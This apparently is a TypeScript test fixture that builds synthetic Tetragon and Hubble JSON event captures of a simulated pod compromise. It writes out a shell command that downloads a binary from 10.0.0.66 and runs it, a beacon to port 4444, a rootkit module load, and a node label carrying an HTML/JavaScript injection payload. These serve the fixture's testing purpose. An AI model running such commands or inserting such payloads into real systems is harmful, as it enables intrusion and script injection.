/**
 * A capture as `tetra getevents -o json` and `hubble observe -o json` print it, with what real
 * agents send beyond the basics (wire-facts/*.txt): LSM bprm checks with an IMA hash, uprobes,
 * USDT probes, the loader, kprobes with module/capability/bpf_map arguments, a raw_syscalls
 * tracepoint, a THROTTLE_START/STOP pair for the pod's cgroup, a rate_limit_info on its node,
 * Hubble flows with emitter, interface, trace reason, node labels, Kafka and DNS records, and a
 * lost_events line. Two binaries named kworkerd live in different directories. Times are
 * rebased to `t0` so the lines are inside the retention.
 */
export const CAPTURE_POD = { namespace: 'empire', name: 'tie-bomber-7d9f8c-x2x4q' };
export const CAPTURE_NODE = 'kind-worker3';
export const CONTAINER_ID = 'containerd://7a1c9e0b3d5f4a6b8c2e1d0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b';
export const KAFKA_FLOW = '0a0a0a0a-1414-4000-8000-00000000c0de';
export const DNS_FLOW = '0a0a0a0a-1414-4000-8000-00000000d0e5';
export const VRRP_FLOW = '0a0a0a0a-1414-4000-8000-0000000000aa';
export const HOSTILE_LABEL = 'team=<img src=x onerror="window.__pwned=1">\u202Eevil';
export const LOST_FLOWS = 77;
export const DROPPED_EVENTS = 1204;

const iso = (ms: number) => new Date(ms).toISOString().replace('Z', '123Z');

export function tetragonCapture(t0: number): string[] {
  const pod = {
    namespace: CAPTURE_POD.namespace,
    name: CAPTURE_POD.name,
    container: { id: CONTAINER_ID, name: 'bomber', image: { id: 'sha256:1', name: 'docker.io/empire/bomber:1.0' }, start_time: iso(t0 - 60_000), pid: 1 },
    pod_labels: { app: 'tie-bomber' },
    workload: 'tie-bomber',
    workload_kind: 'Deployment',
  };
  const proc = (execId: string, pid: number, binary: string, args: string, parent: string, startMs: number) => ({
    exec_id: execId,
    pid,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    flags: 'execve clone',
    start_time: iso(startMs),
    auid: 4294967295,
    pod,
    parent_exec_id: parent,
    tid: pid,
  });
  const at = (s: number) => iso(t0 + s * 1000);
  const system = proc('a2luZC13b3JrZXIzOjEwMDox', 100, '/usr/sbin/kworkerd', '--daemon', '', t0);
  const shell = proc('a2luZC13b3JrZXIzOjIwMDoy', 200, '/bin/sh', '-c "curl -so /tmp/kworkerd http://10.0.0.66/k && /tmp/kworkerd"', system.exec_id, t0 + 1000);
  const dropped = proc('a2luZC13b3JrZXIzOjMwMDoz', 300, '/tmp/kworkerd', '-c 10.0.0.66:4444', shell.exec_id, t0 + 2000);
  const node = { node_name: CAPTURE_NODE };
  const tetragon: object[] = [
    { process_exec: { process: system }, ...node, time: at(0) },
    { process_exec: { process: shell, parent: system }, ...node, time: at(1) },
    { process_exec: { process: dropped, parent: shell }, ...node, time: at(2) },
    {
      process_lsm: {
        process: dropped,
        parent: shell,
        function_name: 'bprm_check_security',
        policy_name: 'ima-exec',
        args: [{ linux_binprm_arg: { path: '/tmp/kworkerd', permission: '-rwxrwxrwx' } }],
        action: 'KPROBE_ACTION_POST',
        ima_hash: 'sha256:5d41402abc4b2a76b9719d911017c592a1b2c3d4e5f60718293a4b5c6d7e8f90',
      },
      ...node,
      time: at(2.5),
    },
    { process_loader: { process: dropped, path: '/usr/lib/x86_64-linux-gnu/libcrypto.so.3', buildid: '3q2+7wABAgM=' }, ...node, time: at(3) },
    { process_uprobe: { process: dropped, parent: shell, path: '/usr/lib/x86_64-linux-gnu/libssl.so.3', symbol: 'SSL_write', policy_name: 'ssl' }, ...node, time: at(5) },
    { process_usdt: { process: system, path: '/usr/sbin/kworkerd', provider: 'kworkerd', name: 'beacon__send', policy_name: 'usdt' }, ...node, time: at(6) },
    {
      process_kprobe: {
        process: dropped,
        parent: shell,
        function_name: 'do_init_module',
        args: [{ module_arg: { name: 'rootkit', signature_ok: false, tainted: ['TAINT_UNSIGNED_MODULE'] } }, { capability_arg: { value: 16, name: 'CAP_SYS_MODULE' } }],
        action: 'KPROBE_ACTION_POST',
        policy_name: 'modules',
      },
      ...node,
      time: at(8),
    },
    {
      process_kprobe: {
        process: dropped,
        function_name: 'security_bpf_map',
        args: [{ bpf_map_arg: { MapType: 'BPF_MAP_TYPE_HASH', MapName: 'hide_pids', KeySize: 4, ValueSize: 4, MaxEntries: 1024 } }],
        policy_name: 'bpf',
      },
      ...node,
      time: at(8.5),
    },
    { process_tracepoint: { process: dropped, subsys: 'raw_syscalls', event: 'sys_enter', args: [{ syscall_id: { id: 101, abi: 'x64' } }], policy_name: 'ptrace' }, ...node, time: at(9) },
    { process_throttle: { type: 'THROTTLE_START', cgroup: `cri-containerd-${CONTAINER_ID.slice('containerd://'.length)}.scope` }, ...node, time: at(10) },
    { process_throttle: { type: 'THROTTLE_STOP', cgroup: `cri-containerd-${CONTAINER_ID.slice('containerd://'.length)}.scope` }, ...node, time: at(25) },
    { rate_limit_info: { number_of_dropped_process_events: String(DROPPED_EVENTS) }, ...node, time: at(30) },
    { process_exit: { process: dropped, parent: shell, signal: 'SIGKILL', time: at(40) }, ...node, time: at(40) },
    { process_exit: { process: system, status: 0, time: at(50) }, ...node, time: at(50) },
  ];
  return tetragon.map((l) => JSON.stringify(l));
}

export function hubbleCapture(t0: number): string[] {
  const at = (s: number) => iso(t0 + s * 1000);
  const src = { ID: 1234, identity: 5678, namespace: CAPTURE_POD.namespace, labels: ['k8s:app=tie-bomber'], pod_name: CAPTURE_POD.name, workloads: [{ name: 'tie-bomber', kind: 'Deployment' }] };
  const kafka = {
    flow: {
      time: at(4),
      uuid: KAFKA_FLOW,
      emitter: { name: 'Hubble', version: '1.19.4+g1f2e3d4' },
      verdict: 'FORWARDED',
      IP: { source: '10.244.3.17', destination: '10.244.1.40', ipVersion: 'IPv4' },
      l4: { TCP: { source_port: 51234, destination_port: 9092 } },
      source: src,
      destination: { ID: 99, identity: 777, namespace: 'empire', labels: ['k8s:app=kafka'], pod_name: 'kafka-0' },
      Type: 'L7',
      node_name: CAPTURE_NODE,
      node_labels: ['kubernetes.io/hostname=kind-worker3', HOSTILE_LABEL],
      l7: { type: 'REQUEST', kafka: { api_version: 9, api_key: 'produce', correlation_id: 42, topic: 'empire-announce', error_code: 0 } },
      reply: false,
      is_reply: false,
      event_type: { type: 129 },
      destination_service: { name: 'kafka', namespace: 'empire' },
      traffic_direction: 'EGRESS',
      trace_observation_point: 'TO_PROXY',
      trace_reason: 'ESTABLISHED',
      interface: { index: 14, name: 'lxc9f2e1d0c' },
      egress_allowed_by: [{ name: 'bomber-to-kafka', namespace: 'empire', kind: 'CiliumNetworkPolicy', revision: '7' }],
      Summary: 'Kafka request produce correlation id 42 topic empire-announce',
    },
    node_name: CAPTURE_NODE,
    time: at(4),
  };
  const dns = {
    flow: {
      time: at(1.5),
      uuid: DNS_FLOW,
      verdict: 'FORWARDED',
      IP: { source: '10.96.0.10', destination: '10.244.3.17', ipVersion: 'IPv4' },
      l4: { UDP: { source_port: 53, destination_port: 40001 } },
      source: { ID: 5, identity: 102, namespace: 'kube-system', labels: ['k8s:k8s-app=kube-dns'], pod_name: 'coredns-5d78c9869d-abcde' },
      destination: src,
      Type: 'L7',
      node_name: CAPTURE_NODE,
      l7: { type: 'RESPONSE', latency_ns: '350000', dns: { query: 'c2.empire.example.', ips: ['10.0.0.66'], ttl: 30, cnames: [], observation_source: 'proxy', rcode: 0, qtypes: ['A'], rrtypes: ['A'] } },
      reply: true,
      is_reply: true,
      traffic_direction: 'INGRESS',
      trace_observation_point: 'TO_ENDPOINT',
      trace_reason: 'REPLY',
      tunnel: { protocol: 'VXLAN', IP: { source: '172.18.0.3', destination: '172.18.0.5' }, l4: { UDP: { source_port: 41000, destination_port: 8472 } }, vni: 2 },
    },
    node_name: CAPTURE_NODE,
    time: at(1.5),
  };
  const vrrp = {
    flow: {
      time: at(7),
      uuid: VRRP_FLOW,
      verdict: 'DROPPED',
      drop_reason: 133,
      drop_reason_desc: 'POLICY_DENIED',
      IP: { source: '172.18.0.3', destination: '224.0.0.18', ipVersion: 'IPv4' },
      l4: { VRRP: { type: 1, vrid: 51, priority: 100 } },
      source: { identity: 1, labels: ['reserved:host'] },
      destination: { identity: 2, labels: ['reserved:world'] },
      Type: 'L3_L4',
      node_name: CAPTURE_NODE,
      traffic_direction: 'EGRESS',
      egress_denied_by: [{ name: 'no-multicast', namespace: '', kind: 'CiliumClusterwideNetworkPolicy' }],
      aggregate: { egress_flow_count: 12 },
    },
    node_name: CAPTURE_NODE,
    time: at(7),
  };
  const lost = { lost_events: { source: 'PERF_EVENT_RING_BUFFER', num_events_lost: String(LOST_FLOWS), cpu: 3 }, node_name: CAPTURE_NODE, time: at(20) };
  return [dns, kafka, vrrp, lost].map((l) => JSON.stringify(l));
}

/** The whole capture, with one broken line at `BAD_LINE` (the report must name it). */
export const BAD_LINE = 4;
export function captureNdjson(t0: number): string {
  const lines = [...tetragonCapture(t0), ...hubbleCapture(t0)];
  lines.splice(BAD_LINE - 1, 0, '{"process_exec": {"process": {"binary": "/bin/cut-off"');
  return `${lines.join('\n')}\n`;
}
